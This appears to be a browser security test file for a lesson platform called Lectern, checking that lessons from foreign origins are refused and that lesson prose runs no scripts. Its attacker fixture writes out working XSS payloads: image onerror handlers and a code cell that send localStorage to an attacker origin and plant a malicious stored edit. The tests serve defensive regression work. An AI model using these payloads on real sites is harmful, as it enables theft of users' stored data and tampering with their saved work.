/**
 * No lesson from another site runs as Lectern, and a lesson's prose runs nothing (issue 12, item 1),
 * in Chromium. An attacker on a second localhost origin serves a lesson (CORS open, as the report
 * had it) whose prose and cells would read and write this site's storage, and a page framing
 * embed.html?src= with it; a third origin is on the build's allowlist (LECTERN_LESSON_ORIGINS).
 */
import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser, startDevServer, type RunningServer } from './harness.ts';
import { startPageServer } from './static-server.ts';

const WAIT = { timeout: 60_000 };

/** A lesson whose prose and cell steal and plant edits, and report to the attacker. */
function evilLesson(attacker: string): string {
  return `---
title: Free course
---
# Free course <img src="x.png" onerror="fetch('${attacker}/steal?from=heading')">

<img src="x.png" onerror="fetch('${attacker}/steal?from=prose&data=' + encodeURIComponent(JSON.stringify(localStorage)))">

\`\`\`ts
localStorage.setItem('pwned', 'cell');
localStorage.setItem('lectern:edits:08-fine-tuning', JSON.stringify({ version: 1, cells: { '0': { base: 'x', source: 'fetch("${attacker}/steal?from=planted")', savedAt: 1 } } }));
fetch('${attacker}/steal?from=cell&data=' + encodeURIComponent(JSON.stringify(localStorage)))
\`\`\`
`;
}

interface Origin { url: string; requests: string[]; server: Server }

/** An origin that serves one lesson (CORS open) and a page, and records every request. */
function startOrigin(files: (origin: string) => Record<string, { type: string; body: string }>): Promise<Origin> {
  return new Promise((resolve) => {
    const requests: string[] = [];
    const server = createServer((request, response) => {
      const path = (request.url ?? '/').split('?')[0]!;
      requests.push(request.url ?? '/');
      const file = files(origin.url)[path];
      if (!file) response.writeHead(404, { 'Access-Control-Allow-Origin': '*' }).end();
      else response.writeHead(200, { 'Content-Type': file.type, 'Access-Control-Allow-Origin': '*' }).end(file.body);
    });
    const origin: Origin = { url: '', requests, server };
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      origin.url = typeof address === 'object' && address ? `http://127.0.0.1:${address.port}` : '';
      resolve(origin);
    });
  });
}

let lectern: RunningServer;
let attacker: Origin;
let friend: Origin;
let browser: Browser;
let page: Page;

beforeAll(async () => {
  attacker = await startOrigin((self) => ({
    '/evil.md': { type: 'text/markdown', body: evilLesson(self) },
    '/frame.html': { type: 'text/html', body: `<!doctype html><title>Attacker</title><iframe id="victim" title="victim" src="${lectern.url}/embed.html?src=${encodeURIComponent(`${self}/evil.md`)}"></iframe>` },
  }));
  friend = await startOrigin(() => ({
    '/friend.md': { type: 'text/markdown', body: '---\ntitle: A partner course\n---\n# A partner course\n\n```ts\n"hello from the partner"\n```\n' },
  }));
  // The build's allowlist is read when the dev server loads vite.config.ts.
  process.env.LECTERN_LESSON_ORIGINS = friend.url;
  [lectern, browser] = await Promise.all([startDevServer(), launchBrowser()]);
  delete process.env.LECTERN_LESSON_ORIGINS;
});

afterAll(async () => {
  await browser?.close();
  await lectern?.close();
  for (const origin of [attacker, friend]) await new Promise((done) => origin?.server.close(done));
});

async function newPage(): Promise<Page> {
  const context = await browser.newContext();
  page = await context.newPage();
  return page;
}

/** What the attacker could have done on Lectern's origin: storage it wrote, requests it received. */
async function traces(): Promise<{ pwned: string | null; planted: string | null; stolen: string[] }> {
  const origin = await (await newPage()).context().newPage();
  await origin.goto(`${lectern.url}/index.html`);
  const stored = await origin.evaluate(() => ({ pwned: localStorage.getItem('pwned'), planted: localStorage.getItem('lectern:edits:08-fine-tuning') }));
  return { ...stored, stolen: attacker.requests.filter((r) => r.startsWith('/steal')) };
}

describe('lessons from another origin', () => {
  it('embed.html?src= framed by the attacker refuses its lesson, names the origin and fetches nothing', async () => {
    attacker.requests.length = 0;
    const page = await newPage();
    await page.goto(`${attacker.url}/frame.html`);
    const frame = page.frameLocator('#victim');
    const alert = frame.locator('lectern-lesson [role="alert"]');
    await expect.poll(() => alert.textContent(), WAIT).toContain(
      `embed.html?src=${attacker.url}/evil.md is on another site (${attacker.url}), so it is not shown`,
    );
    expect(await alert.textContent()).toContain(`LECTERN_LESSON_ORIGINS="${attacker.url}"`);
    // The lesson itself was never fetched.
    expect(attacker.requests.filter((r) => r !== '/favicon.ico')).toEqual(['/frame.html']);
    expect(await traces()).toEqual({ pwned: null, planted: null, stolen: [] });
    await page.context().close();
  });

  it('lesson.html?file= of another origin is refused under npm start', async () => {
    attacker.requests.length = 0;
    const page = await newPage();
    await page.goto(`${lectern.url}/lesson.html?file=${encodeURIComponent(`${attacker.url}/evil.md`)}`);
    await expect.poll(() => page.getByRole('alert').textContent(), WAIT).toContain(
      `lesson.html?file=${attacker.url}/evil.md is on another site (${attacker.url})`,
    );
    expect(attacker.requests).toEqual([]);
    expect(await page.getByRole('link', { name: 'Back to the lessons' }).count()).toBe(1);
    await page.context().close();
  });

  it('lesson.html?file= of a missing file says so instead of showing the site\'s index page as a lesson', async () => {
    const page = await newPage();
    await page.goto(`${lectern.url}/lesson.html?file=/no/such/draft.md`);
    await expect.poll(() => page.getByRole('alert').textContent(), WAIT).toBe(`Cannot read the lesson ${lectern.url}/no/such/draft.md: HTTP 404`);
    expect(await page.locator('.cell').count()).toBe(0);
    await page.context().close();
  });

  it('<lectern-lesson src> on a course site refuses a third origin, and shows the allowed one', async () => {
    attacker.requests.length = 0;
    const site = await startPageServer(`<!doctype html><html lang="en"><head><title>Course</title>
<script type="module" src="${lectern.url}/src/embed/lectern.ts"></script></head><body>
<lectern-lesson id="evil" src="${attacker.url}/evil.md"></lectern-lesson>
<lectern-lesson id="friend" src="${friend.url}/friend.md"></lectern-lesson></body></html>`);
    try {
      const page = await newPage();
      await page.goto(site.url);
      await expect.poll(() => page.locator('lectern-lesson#evil [role="alert"]').textContent(), WAIT)
        .toContain(`<lectern-lesson src> ${attacker.url}/evil.md is on another site (${attacker.url})`);
      await expect.poll(() => page.locator('lectern-lesson#friend .cell-output').textContent(), WAIT).toBe('"hello from the partner"');
      expect(attacker.requests).toEqual([]);
      await page.context().close();
    } finally {
      await site.close();
    }
  });

  it('embed.html?src= shows a lesson of an origin on the build\'s allowlist', async () => {
    const page = await newPage();
    await page.goto(`${lectern.url}/embed.html?src=${encodeURIComponent(`${friend.url}/friend.md`)}`);
    await expect.poll(() => page.locator('lectern-lesson .cell-output').textContent(), WAIT).toBe('"hello from the partner"');
    await page.context().close();
  });
});

describe('prose HTML of a lesson', () => {
  it('runs no event handler or javascript: URL, keeps the author\'s markup, and the cells still run', async () => {
    const page = await newPage();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => { dialogs.push(dialog.message()); void dialog.dismiss(); });
    await page.goto(`${lectern.url}/lesson.html?file=/test/fixtures/safety/prose-attacks.md`);
    await page.locator('#lesson[data-ready="true"]').waitFor(WAIT);
    await expect.poll(() => page.locator('.cell .cell-output').first().textContent(), WAIT).toBe('"cells still run"');
    // Give every payload its chance: click, hover and focus what is left, let images fail to load.
    await page.evaluate(() => {
      for (const el of document.querySelectorAll<HTMLElement>('#lesson .prose *')) {
        // Synthetic events run inline handlers as real ones do (a javascript: URL left is caught below).
        for (const type of ['click', 'mouseover', 'focus', 'toggle', 'load', 'error']) el.dispatchEvent(new Event(type, { bubbles: true }));
      }
    });
    await page.waitForTimeout(500);
    const found = await page.evaluate(() => {
      const root = document.getElementById('lesson')!;
      const handlers: string[] = [];
      const scriptUrls: string[] = [];
      for (const el of root.querySelectorAll('*')) {
        if (el.closest('.cell')) continue; // cells are the author's code; only prose is checked
        for (const attr of el.attributes) {
          if (/^on/i.test(attr.name)) handlers.push(`${el.tagName.toLowerCase()} ${attr.name}`);
          if (/^\s*(javascript|vbscript):/i.test(attr.value.replace(/[\u0000-\u001f]/g, ''))) scriptUrls.push(`${el.tagName.toLowerCase()} ${attr.name}`);
        }
      }
      const tags = (selector: string) => root.querySelectorAll(selector).length;
      return {
        pwned: (window as unknown as { __pwned?: string[] }).__pwned ?? [],
        handlers, scriptUrls,
        dangerous: tags('.prose script, .prose iframe, .prose object, .prose embed, .prose meta, .prose base, h1 script'),
        kept: {
          kbd: tags('.prose kbd'), sub: tags('.prose sub'), link: root.querySelector('.prose a[href="https://example.org/keras"]')?.getAttribute('title'),
          anchor: tags('.prose a[href="#cells"]'), details: tags('.prose details > summary'), figure: tags('.prose figure > img[alt="a figure"] + figcaption'),
          table: tags('.prose table td'), svg: tags('.prose svg.kept circle'),
        },
      };
    });
    expect(found.pwned).toEqual([]);
    expect(found.handlers).toEqual([]);
    expect(found.scriptUrls).toEqual([]);
    expect(found.dangerous).toBe(0);
    expect(found.kept).toEqual({ kbd: 2, sub: 1, link: 'Keras', anchor: 1, details: 2, figure: 1, table: 2, svg: 1 });
    expect(dialogs).toEqual([]);
    await page.context().close();
  });
});
